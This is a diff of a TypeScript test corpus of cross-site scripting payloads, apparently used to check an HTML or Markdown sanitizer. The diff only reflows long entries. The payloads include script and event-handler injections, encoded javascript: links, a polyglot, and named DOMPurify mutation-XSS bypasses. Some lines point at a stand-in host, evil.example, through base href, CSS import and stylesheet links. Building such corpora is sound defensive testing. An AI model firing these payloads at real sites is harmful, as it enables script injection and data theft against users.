@@ -17,7 +17,10 @@ export const xssCorpus: Payload[] = [
   { name: 'attribute breakout', text: '"><script>alert(1)</script>' },
   { name: 'img onerror', text: '<img src=x onerror=alert(1)>' },
   { name: 'mixed-case javascript: src', text: `<IMG SRC=JaVaScRiPt:alert('XSS')>` },
-  { name: 'decimal entity javascript:', text: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>' },
+  {
+    name: 'decimal entity javascript:',
+    text: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+  },
   { name: 'svg onload', text: '<svg/onload=alert(1)>' },
   { name: 'nested script split', text: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
   { name: 'extra open bracket', text: '<<SCRIPT>alert("XSS");//<</SCRIPT>' },
@@ -31,14 +34,26 @@ export const xssCorpus: Payload[] = [
   { name: 'base href hijack', text: '<base href="https://evil.example/">[rel](/steal)' },
   { name: 'style import', text: `<style>@import 'https://evil.example/x.css';</style>` },
   { name: 'link stylesheet', text: '<link rel=stylesheet href=https://evil.example/x.css>' },
-  { name: 'polyglot', text: `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>` },
+  {
+    name: 'polyglot',
+    text: `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
+  },
   { name: 'mailto with onclick', text: '<a href="mailto:help@example.com" onclick="alert(1)">mail</a>' },
   // DOMPurify mXSS bypasses
   { name: 'mXSS 2.0.0 svg/style', text: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
-  { name: 'mXSS 2.0.17 math/mglyph', text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">' },
-  { name: 'mXSS 2.0.17 form/math', text: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>' },
+  {
+    name: 'mXSS 2.0.17 math/mglyph',
+    text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
+  },
+  {
+    name: 'mXSS 2.0.17 form/math',
+    text: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  },
   { name: 'mXSS noscript title', text: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
-  { name: 'mXSS namespace confusion', text: '<math><mi><table><mi><svg><style><img src=x onerror=alert(1)></style></svg></mi></table></mi></math>' },
+  {
+    name: 'mXSS namespace confusion',
+    text: '<math><mi><table><mi><svg><style><img src=x onerror=alert(1)></style></svg></mi></table></mi></math>',
+  },
   { name: 'template content', text: '<template><img src=x onerror=alert(1)></template>' },
   { name: 'iframe srcdoc', text: '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>' },
   // Markdown link-scheme tricks
